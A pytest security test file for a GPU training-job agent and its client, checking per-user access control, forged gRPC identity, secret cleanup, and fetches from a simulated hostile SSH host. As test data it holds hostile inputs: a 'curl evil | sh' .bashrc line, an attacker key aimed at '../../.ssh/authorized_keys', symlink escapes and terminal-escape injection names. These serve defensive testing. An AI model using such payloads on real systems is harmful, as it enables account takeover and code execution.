"""Who calls, and what they may do: real Unix accounts, each logging in over a real sshd with a
key of its own, against a real agent that learns the caller from the kernel.

alice and bob are ordinary users (not in a team together), carol is alice's teammate, admin is
listed in agent.yml's `admins`. Every path is tried: the real client over SSH, a stock gRPC call
through the socket, the agent's private socket, SFTP, and the client's own files.
"""

import contextlib
import json
import os
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import docker
import grpc
import paramiko
import pytest
import yaml
from hatrain.agent.config import AgentConfig
from hatrain.agent.errors import ConfigError
from hatrain.agent.server import Agent
from hatrain.rpc.v1 import agent_pb2 as pb

from tests.support import hostile_host as hostile
from tests.support.client import ClientRunner, host_entry
from tests.support.harness import (
    TERMINAL,
    AgentProcess,
    all_events,
    poll,
    spec,
    stub_for,
    wait_state,
)
from tests.support.hostile_host import HostileHost
from tests.support.sshd import SshServer, start_sshd
from tests.support.users import (
    ADMIN,
    ALICE,
    BOB,
    CAROL,
    USER_BRIDGE,
    channel_as,
    ensure_user,
    run_as,
    stub_as,
)
from tests.test_client_submit import make_project


@dataclass
class Team:
    agent: Agent
    clients: dict[str, ClientRunner]
    project: Path
    sshd: SshServer

    def run(self, user: str, *args: str) -> subprocess.CompletedProcess[str]:
        return self.clients[user].run(*args, cwd=self.project)


@pytest.fixture(scope="session")
def accounts() -> None:
    for name in (ALICE, BOB, CAROL, ADMIN):
        ensure_user(name)


@pytest.fixture
def team(
    accounts: None,
    agent_config: dict[str, Any],
    start_agent: Any,
    sshd: SshServer,
    tmp_path: Path,
) -> Team:
    """An agent whose admins are `admin`, and a client for each account, logging in as it. Its
    data root is where the accounts can reach it (pytest's own directory is private)."""
    data_root = Path(agent_config["listen"]).parent.parent / "data"
    _, agent = start_agent(
        {
            **agent_config,
            "data_root": str(data_root),
            "admins": [ADMIN],
            "teams": {"ml": {"members": [ALICE, CAROL]}},
        }
    )
    clients = {}
    for user in (ALICE, BOB, ADMIN):
        alias = sshd.add_login(user)
        client = ClientRunner.configure(tmp_path / f"client-{user}", sshd, agent.socket)
        settings = yaml.safe_load(client.config.read_text())
        settings["hosts"] = {"gpu1": host_entry(alias, agent.socket, USER_BRIDGE)}
        client.config.write_text(yaml.safe_dump(settings))
        clients[user] = client
    project = make_project(tmp_path / "project", {"hold_train": "never"})
    return Team(agent, clients, project, sshd)


@contextlib.contextmanager
def sftp_as(sshd: SshServer, user: str) -> Iterator[paramiko.SFTPClient]:
    """An SFTP session of the account's own login, with its own key, on the real sshd."""
    with paramiko.SSHClient() as ssh:
        ssh.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        sshd.add_login(user)
        ssh.connect(
            "127.0.0.1",
            sshd.port,
            username=user,
            key_filename=str(sshd.root / f"key-{user}"),
            allow_agent=False,
            look_for_keys=False,
        )
        with ssh.open_sftp() as sftp:
            yield sftp


def submitted(team: Team, user: str, *extra: str) -> dict[str, Any]:
    result = team.run(user, "submit", "train/configs/mini.yml", "--detach", "--json", *extra)
    assert result.returncode == 0, result.stderr
    job: dict[str, Any] = json.loads(result.stdout)
    return job


def test_a_user_cannot_act_on_another_users_job_but_an_admin_can(team: Team) -> None:
    """bob cannot cancel, retry, pin, unpin, read the logs or events of, or fetch alice's job
    through the client; he sees it in the queue (name, user, state) but not its config or run
    dir, and his own SFTP session can neither list the run dir nor read a file alice put there.
    The agent knows each of them as who the kernel says. The admin can do all of it: read the
    logs and the run dir (through their own SFTP login, and `fetch`), pin, cancel, and retry
    it once it has ended (bob still may not: the refusal is about whose it is, not its state);
    the retry is the admin's own job."""
    job = submitted(team, ALICE)
    assert job["user"] == ALICE
    job_id = job["id"]
    queue = json.loads(team.run(BOB, "queue", "--json").stdout)
    seen = next(j for j in queue["jobs"] if j["id"] == job_id)
    assert (seen["user"], seen["name"]) == (ALICE, "mini")
    assert seen["run_dir"] == "" and seen["hint"] == ""

    verbs = [("cancel", job_id), ("retry", job_id), ("logs", job_id), ("watch", job_id)]
    for verb in [*verbs, ("pin", job_id), ("unpin", job_id)]:
        denied = team.run(BOB, *verb)
        assert denied.returncode == 65, (verb, denied.stdout, denied.stderr)
        assert f"belongs to {ALICE}" in denied.stderr, (verb, denied.stderr)
    fetched = team.run(BOB, "fetch", job_id, "out")
    assert fetched.returncode == 65 and "its outputs are for its owner" in fetched.stderr
    status = json.loads(team.run(BOB, "status", job_id, "--json").stdout)
    assert status["state"] in ("queued", "starting", "preprocessing", "training")

    assert team.run(ADMIN, "logs", job_id).returncode == 0
    pinned = team.run(ADMIN, "pin", job_id)
    assert pinned.returncode == 0 and f"job {job_id} on gpu1 pinned" in pinned.stdout
    assert team.agent.store.is_pinned(job_id)
    assert team.run(ALICE, "unpin", job_id).returncode == 0
    assert not team.agent.store.is_pinned(job_id)
    admin_view = json.loads(team.run(ADMIN, "status", job_id, "--json").stdout)
    assert admin_view["run_dir"].endswith(f"/jobs/{job_id}/run")
    run_dir = admin_view["run_dir"]
    poll(lambda: Path(run_dir).is_dir(), 60, "the job's run dir")
    wrote = run_as(ALICE, "sh", "-c", 'echo result > "$0/result.txt"', run_dir)
    assert wrote.returncode == 0, wrote.stderr
    with sftp_as(team.sshd, BOB) as sftp:
        for attempt in (lambda: sftp.listdir(run_dir), lambda: sftp.open(f"{run_dir}/result.txt")):
            with pytest.raises(PermissionError):
                attempt()
    for reader in (ALICE, ADMIN):
        with sftp_as(team.sshd, reader) as sftp, sftp.open(f"{run_dir}/result.txt") as fh:
            assert fh.read() == b"result\n", reader
    teammate = run_as(CAROL, "cat", f"{run_dir}/result.txt")
    assert teammate.stdout == "result\n", "alice's teammate reads it with her own login too"
    fetched = team.run(ADMIN, "fetch", job_id, str(team.project / "by-admin"))
    assert fetched.returncode == 0, fetched.stderr
    assert (team.project / "by-admin" / "result.txt").read_text() == "result\n"
    cancelled = team.run(ADMIN, "cancel", job_id, "--wait")
    assert cancelled.returncode == 130, cancelled.stderr
    denied = team.run(BOB, "retry", job_id)
    assert denied.returncode == 65 and f"belongs to {ALICE}" in denied.stderr, "ended, still hers"
    retried = team.run(ADMIN, "retry", job_id, "--detach", "--json")
    assert retried.returncode == 0, retried.stderr
    again = json.loads(retried.stdout)
    assert again["user"] == ADMIN and team.agent.store.get(again["id"]).spec.retry_of == job_id
    assert team.run(ADMIN, "cancel", again["id"]).returncode == 0


def test_where_the_host_forwards_nothing_the_bridge_carries_the_calls(
    accounts: None, team: Team, tmp_path: Path
) -> None:
    """A host whose sshd forbids forwarding to its sockets is reached through
    `hatrain-agent bridge`, run as the login: the agent still knows who calls."""
    strict = start_sshd(tmp_path / "strict-sshd", extra_config="AllowStreamLocalForwarding no")
    try:
        alias = strict.add_login(BOB)
        client = ClientRunner.configure(tmp_path / "client-strict", strict, team.agent.socket)
        settings = yaml.safe_load(client.config.read_text())
        settings["hosts"] = {"gpu1": host_entry(alias, team.agent.socket, USER_BRIDGE)}
        client.config.write_text(yaml.safe_dump(settings))
        hosts = client.run("hosts", "--json")
        assert hosts.returncode == 0, hosts.stderr
        assert json.loads(hosts.stdout)[0]["user"] == BOB
        job_id = submitted(team, ALICE)["id"]
        denied = client.run("cancel", job_id)
        assert denied.returncode == 65 and f"belongs to {ALICE}" in denied.stderr
    finally:
        strict.stop()


def test_a_stock_grpc_call_is_who_the_kernel_says(team: Team) -> None:
    """A gRPC call of bob's own through the agent's socket, claiming to be alice in every way a
    client could (the old metadata included), is still bob's: denied on alice's job (cancel,
    retry, events; its summary without config or run dir). The admin's own stock calls get
    all of it: the full spec and run dir, the events, the cancel, and a retry once it has
    ended, which is the admin's job; bob's retry of the ended job is still denied."""
    job_id = submitted(team, ALICE)["id"]
    forged = [("x-hatrain-user", ALICE)]
    with channel_as(BOB, team.agent.socket) as channel:
        bob = stub_as(channel)
        assert bob.GetAgentInfo(pb.GetAgentInfoRequest(), metadata=forged).user == BOB
        for call, request in (
            (bob.CancelJob, pb.CancelJobRequest(job_id=job_id)),
            (bob.SubmitJob, pb.SubmitJobRequest(spec=spec({}, retry_of=job_id))),
        ):
            with pytest.raises(grpc.RpcError) as denied:
                call(request, metadata=forged, timeout=30)
            assert denied.value.code() == grpc.StatusCode.PERMISSION_DENIED
        with pytest.raises(grpc.RpcError) as denied:
            list(bob.WatchJob(pb.WatchJobRequest(job_id=job_id), metadata=forged, timeout=30))
        assert denied.value.code() == grpc.StatusCode.PERMISSION_DENIED
        summary = bob.GetJob(pb.GetJobRequest(job_id=job_id), metadata=forged)
        assert summary.user == ALICE and summary.spec.config_yaml == b"" and not summary.run_dir
    with channel_as(ALICE, team.agent.socket) as channel:
        mine = stub_as(channel).GetJob(pb.GetJobRequest(job_id=job_id))
        assert b"hatrain_standin" in mine.spec.config_yaml

    with channel_as(ADMIN, team.agent.socket) as channel:
        admin = stub_as(channel)
        assert admin.GetAgentInfo(pb.GetAgentInfoRequest()).user == ADMIN
        full = admin.GetJob(pb.GetJobRequest(job_id=job_id))
        assert full.spec == mine.spec and full.run_dir == mine.run_dir != ""
        assert all_events(admin, job_id), "the job's events, read by the admin"
        admin.CancelJob(pb.CancelJobRequest(job_id=job_id), timeout=30)
        assert wait_state(admin, job_id, TERMINAL).state == pb.JOB_STATE_CANCELLED
        retry = pb.JobSpec()
        retry.CopyFrom(full.spec)
        retry.retry_of = job_id
        with channel_as(BOB, team.agent.socket) as bobs:
            with pytest.raises(grpc.RpcError) as denied:
                stub_as(bobs).SubmitJob(pb.SubmitJobRequest(spec=retry), timeout=30)
            assert denied.value.code() == grpc.StatusCode.PERMISSION_DENIED
        again = admin.SubmitJob(pb.SubmitJobRequest(spec=retry), timeout=30).job
        assert (again.user, again.spec.retry_of) == (ADMIN, job_id)
        admin.CancelJob(pb.CancelJobRequest(job_id=again.id), timeout=30)


def test_the_private_socket_is_out_of_reach(team: Team) -> None:
    """The gRPC server itself listens only in a directory of the agent's own: bob cannot
    connect to it, so he cannot skip the door that asks the kernel who he is."""
    private = team.agent.socket.parent / "private" / "grpc.sock"
    assert private.is_socket()
    probe = (
        "import socket, sys\n"
        "s = socket.socket(socket.AF_UNIX)\n"
        "try:\n    s.connect(sys.argv[1])\nexcept PermissionError:\n    sys.exit(13)\n"
    )
    assert run_as(BOB, "/usr/bin/python3", "-c", probe, str(private)).returncode == 13


def test_editing_the_client_files_changes_nobody(team: Team, tmp_path: Path) -> None:
    """bob's shared connection keeps a file of its own; writing alice's name into it (or into
    anything else he controls) gives him nothing of hers."""
    job_id = submitted(team, ALICE)["id"]
    bob = team.clients[BOB]
    settings = yaml.safe_load(bob.config.read_text())
    settings["keep_connection_seconds"] = 30
    bob.config.write_text(yaml.safe_dump(settings))
    assert team.run(BOB, "hosts").returncode == 0  # starts the shared connection
    info = poll(lambda: next(bob.runtime_dir.glob("hatrain-*/*.json"), None), 30, "its file")
    info.write_text(json.dumps({**json.loads(info.read_text()), "user": ALICE}))
    denied = team.run(BOB, "cancel", job_id)
    assert denied.returncode == 65 and f"belongs to {ALICE}" in denied.stderr
    hosts = json.loads(team.run(BOB, "hosts", "--json").stdout)
    assert hosts[0]["user"] == BOB


def test_team_and_priority_rules(team: Team) -> None:
    """A priority above the default is an admin's (or a team's max_priority); a job may name
    only a team its user is in. Each refusal names the field and changes nothing."""
    high = team.run(BOB, "submit", "train/configs/mini.yml", "--detach", "--priority", "5")
    assert high.returncode == 65 and "spec.priority: at most 0 for hatrain-bob" in high.stderr
    other = team.run(BOB, "submit", "train/configs/mini.yml", "--detach", "--team", "ml")
    assert other.returncode == 65 and "spec.team: hatrain-bob is not a member" in other.stderr
    assert json.loads(team.run(ADMIN, "queue", "--json", "--all").stdout)["jobs"] == []
    assert submitted(team, ALICE, "--team", "ml")["user"] == ALICE
    assert submitted(team, ADMIN, "--priority", "50")["user"] == ADMIN


def test_a_squatted_runtime_directory_stops_the_agent(
    accounts: None, agent_config: dict[str, Any], tmp_path: Path
) -> None:
    """If the socket's directory is somebody else's, or writable by others, the agent refuses
    to start rather than serve on an address another user could have taken."""
    run_dir = Path(agent_config["listen"]).parent
    run_dir.mkdir()
    uid = ensure_user(BOB).pw_uid
    os.chown(run_dir, uid, uid)
    with pytest.raises(ConfigError) as owned:
        Agent(AgentConfig.model_validate(agent_config))
    assert f"belongs to uid {uid}" in str(owned.value) and "squatting" in str(owned.value)
    os.chown(run_dir, 0, 0)
    run_dir.chmod(0o777)
    with pytest.raises(ConfigError) as open_dir:
        Agent(AgentConfig.model_validate(agent_config))
    assert "writable by others" in str(open_dir.value)


def test_secrets_are_gone_however_a_job_ends(agent_config: dict[str, Any], tmp_path: Path) -> None:
    """A job's secrets are a file its user alone may read (0400 in a 0700 directory) while it
    is queued or running, and gone once it ends: cancelled while queued, cancelled while
    running, or lost with its container while the agent was down (killed with SIGKILL)."""
    config = {**agent_config, "scheduler": {"max_cpu_jobs": 1}}
    agent = AgentProcess(config, tmp_path)
    agent.start()
    secrets = Path(config["data_root"]) / "secrets"
    held = {"hatrain_standin": {"hold_train": "never"}}
    try:
        poll(Path(config["listen"]).exists, 60, "the agent's socket")
        stub, channel = stub_for(Path(config["listen"]))

        def submit() -> Any:
            request = pb.SubmitJobRequest(spec=spec(held), secrets={"HF_TOKEN": "hf_not_for_you"})
            return stub.SubmitJob(request).job

        running, queued = submit(), submit()
        wait_state(stub, running.id, {pb.JOB_STATE_TRAINING})
        token = secrets / queued.id / "HF_TOKEN"
        assert oct(token.stat().st_mode & 0o777) == "0o400"
        assert oct((secrets / queued.id).stat().st_mode & 0o777) == "0o700"
        stub.CancelJob(pb.CancelJobRequest(job_id=queued.id))
        assert not (secrets / queued.id).exists()
        stub.CancelJob(pb.CancelJobRequest(job_id=running.id))
        wait_state(stub, running.id, TERMINAL)
        assert not (secrets / running.id).exists()

        lost = submit()
        wait_state(stub, lost.id, {pb.JOB_STATE_TRAINING})
        poll(
            lambda: any(e.step == "train" and e.line for e in all_events(stub, lost.id)),
            60,
            "the train step's first output (its container is recorded by then)",
        )
        channel.close()
        agent.kill()
        for container in docker.from_env().containers.list(
            all=True, filters={"label": f"hatrain.job={lost.id}"}, ignore_removed=True
        ):
            container.remove(force=True)
        assert (secrets / lost.id / "HF_TOKEN").exists()
        agent.start()
        poll(lambda: _answers(Path(config["listen"])), 60, "the agent to answer again")
        stub, channel = stub_for(Path(config["listen"]))
        done = wait_state(stub, lost.id, TERMINAL, timeout=60)
        assert done.failure_reason == "container lost"
        poll(lambda: not (secrets / lost.id).exists(), 30, "the lost job's secrets to go")
        channel.close()
    finally:
        agent.terminate()


def _answers(socket_path: Path) -> bool:
    try:
        _, channel = stub_for(socket_path)
    except grpc.FutureTimeoutError:
        return False
    channel.close()
    return True


def _fetch_from(host: HostileHost, home: Path, dest: Path) -> subprocess.CompletedProcess[str]:
    """The real client's `fetch` of the hostile host's job, logging in to it over SSH with a
    key it accepts, its host key in known_hosts."""
    home.mkdir()
    settings = {
        "default_host": "evil",
        "hosts": {"evil": host_entry(host.alias, Path("/run/hatrain/agent.sock"))},
        "ssh_config": str(host.ssh_config),
        "known_hosts": str(host.known_hosts),
        "cache_dir": str(home / "cache"),
        "keep_connection_seconds": 0,
    }
    config = home / "client.yml"
    config.write_text(yaml.safe_dump(settings))
    return ClientRunner(home, config).run("fetch", hostile.JOB_ID, str(dest))


def _everything(root: Path, *but: Path) -> dict[str, str]:
    """Every path under root (but not under those given), each with its bytes or its link's
    target."""
    found = {}
    for path in sorted(root.rglob("*")):
        if any(path.is_relative_to(b) for b in but):
            continue
        found[str(path.relative_to(root))] = (
            f"-> {os.readlink(path)}"
            if path.is_symlink()
            else "dir"
            if path.is_dir()
            else path.read_bytes().decode(errors="replace")
        )
    return found


@pytest.mark.parametrize(
    "name",
    [
        "../../.ssh/authorized_keys",
        "../x",
        "a/../../b",
        "{victim}/.bashrc",
        "../\x1b]0;owned\x07[bold]x\n",
    ],
    ids=["dot-dot-ssh", "parent", "through-a-dir", "absolute", "escapes-and-markup"],
)
def test_fetch_refuses_names_from_a_hostile_host(tmp_path: Path, name: str) -> None:
    """A hostile SSH host (its own sshd, agent and SFTP, on the real protocols) says the job
    ran and lists, beside ordinary files, one named to land outside DEST (up out of it,
    absolute, through a directory). The real `hatrain-client fetch` refuses it, naming it (as
    text: its escape codes and markup shown, not obeyed), downloads nothing, and writes nothing
    anywhere: not in DEST, not where the name points."""
    victim = tmp_path / "victim"
    dest = victim / "runs" / "dest"
    dest.parent.mkdir(parents=True)
    name = name.format(victim=victim)
    tree = hostile.Tree(
        {
            "": [
                ("model.bin", hostile.file()),
                ("checkpoint-1", hostile.directory()),
                (name, hostile.file(b"ssh-ed25519 AAAA attacker\n")),
            ],
            "checkpoint-1": [("weights.bin", hostile.file())],
        }
    )
    before = _everything(tmp_path, tmp_path / "client", tmp_path / "host")
    with hostile.hostile_host(tmp_path / "host", ALICE, tree) as host:
        fetched = _fetch_from(host, tmp_path / "client", dest)
    assert fetched.returncode == 69, (fetched.stdout, fetched.stderr)
    assert f"the host listed a file named {name!r} in the run directory" in fetched.stderr
    assert "\x1b" not in fetched.stderr + fetched.stdout
    assert tree.opened == [], "nothing was downloaded"
    assert _everything(tmp_path, tmp_path / "client", tmp_path / "host") == before, (
        "nothing was written"
    )


def test_fetch_takes_names_with_escapes_and_markup_as_text(tmp_path: Path) -> None:
    """A hostile host's file whose name is legal but carries a newline, terminal escapes and
    rich markup is fetched inside DEST under that very name, and the list of fetched files
    shows it as text: escaped, markup printed, no escape code sent to the terminal."""
    dest = tmp_path / "dest"
    name = "[bold red]boom\x1b]0;owned\x07\x1b[2J\nname.txt"
    tree = hostile.Tree({"": [("model.bin", hostile.file()), (name, hostile.file(b"odd\n"))]})
    with hostile.hostile_host(tmp_path / "host", ALICE, tree) as host:
        fetched = _fetch_from(host, tmp_path / "client", dest)
    assert fetched.returncode == 0, fetched.stderr
    assert (dest / name).read_bytes() == b"odd\n"
    assert sorted(p.name for p in dest.iterdir()) == sorted(["model.bin", name])
    out = fetched.stdout + fetched.stderr
    assert "\x1b" not in out and "\x07" not in out
    assert "[bold red]boom\\x1b]0;owned\\x07\\x1b[2J\\nname.txt (4 bytes)" in fetched.stderr


def test_fetch_follows_no_link_of_a_hostile_host(tmp_path: Path) -> None:
    """Links in a hostile host's run dir (to a directory of the client's, to /etc, up) are
    neither followed nor made in DEST, and files it names `.` and `..` are taken for what SFTP
    means by them, not fetched: only the plain file is, and nothing outside DEST changes."""
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / ".bashrc").write_text("mine\n")
    dest = tmp_path / "dest"
    tree = hostile.Tree(
        {
            "": [
                ("model.bin", hostile.file()),
                ("escape", hostile.link(str(victim))),
                ("etc", hostile.link("/etc")),
                ("up", hostile.link("../../..")),
                ("..", hostile.file(b"owned\n")),
                (".", hostile.file(b"owned\n")),
            ]
        }
    )
    before = _everything(victim)
    with hostile.hostile_host(tmp_path / "host", ALICE, tree) as host:
        fetched = _fetch_from(host, tmp_path / "client", dest)
    assert fetched.returncode == 0, fetched.stderr
    assert [p.name for p in dest.iterdir()] == ["model.bin"]
    assert tree.opened == [f"{hostile.RUN_DIR}/model.bin"]
    assert _everything(victim) == before


def test_fetch_refuses_a_link_out_of_its_destination(tmp_path: Path) -> None:
    """A name that is harmless on its own, but whose directory in DEST is a link leading out
    of it, is refused too, naming it; nothing is downloaded or written through the link."""
    victim = tmp_path / "victim"
    victim.mkdir()
    dest = tmp_path / "dest"
    dest.mkdir()
    (dest / "sub").symlink_to(victim)
    tree = hostile.Tree(
        {
            "": [("model.bin", hostile.file()), ("sub", hostile.directory())],
            "sub": [(".bashrc", hostile.file(b"curl evil | sh\n"))],
        }
    )
    with hostile.hostile_host(tmp_path / "host", ALICE, tree) as host:
        fetched = _fetch_from(host, tmp_path / "client", dest)
    assert fetched.returncode == 69, (fetched.stdout, fetched.stderr)
    assert f"the host listed 'sub/.bashrc', which would land outside {dest}" in fetched.stderr
    assert tree.opened == []
    assert list(victim.iterdir()) == [] and sorted(p.name for p in dest.iterdir()) == ["sub"]


def test_names_and_lines_are_shown_not_obeyed(
    agent_config: dict[str, Any], start_agent: Any, client_for: Any, tmp_path: Path
) -> None:
    """A job named with rich markup and terminal escapes, printing escapes of its own: `queue`,
    `status` and `logs` show them as text, and send no escape sequence to the terminal."""
    _, agent = start_agent(agent_config)
    client = client_for(agent.socket)
    evil_line = "\x1b]0;owned\x07\x1b[2Jcleared"
    project = make_project(tmp_path / "project", {"say_train": [evil_line]})
    name = "[bold red]boom[/]\x1b[31m"
    job = client.json("submit", "train/configs/mini.yml", "--detach", "--name", name, cwd=project)
    assert client.run("wait", job["id"]).returncode == 0
    outputs = [
        client.run("queue", "--all").stdout,
        client.run("status", job["id"]).stdout,
        client.run("logs", job["id"]).stdout,
    ]
    for out in outputs:
        assert "\x1b" not in out and "\x07" not in out
    assert "[bold red]boom[/]\\x1b[31m" in outputs[0] + outputs[1]
    assert "\\x1b]0;owned\\x07\\x1b[2Jcleared" in outputs[2]


def test_host_keys_are_also_read_from_the_system_file(
    agent_config: dict[str, Any], start_agent: Any, client_for: Any, sshd: SshServer
) -> None:
    """A host key the admins put in the system's known_hosts (not the user's) is trusted."""
    _, agent = start_agent(agent_config)
    system = sshd.root / "ssh_known_hosts"
    shutil.copy(sshd.known_hosts, system)
    empty = sshd.root / "empty_known_hosts"
    empty.write_text("")
    client = client_for(agent.socket, known_hosts=str(empty), system_known_hosts=str(system))
    assert client.run("hosts").returncode == 0
    refused = client_for(agent.socket, known_hosts=str(empty), system_known_hosts=str(empty))
    assert refused.run("hosts").returncode == 77
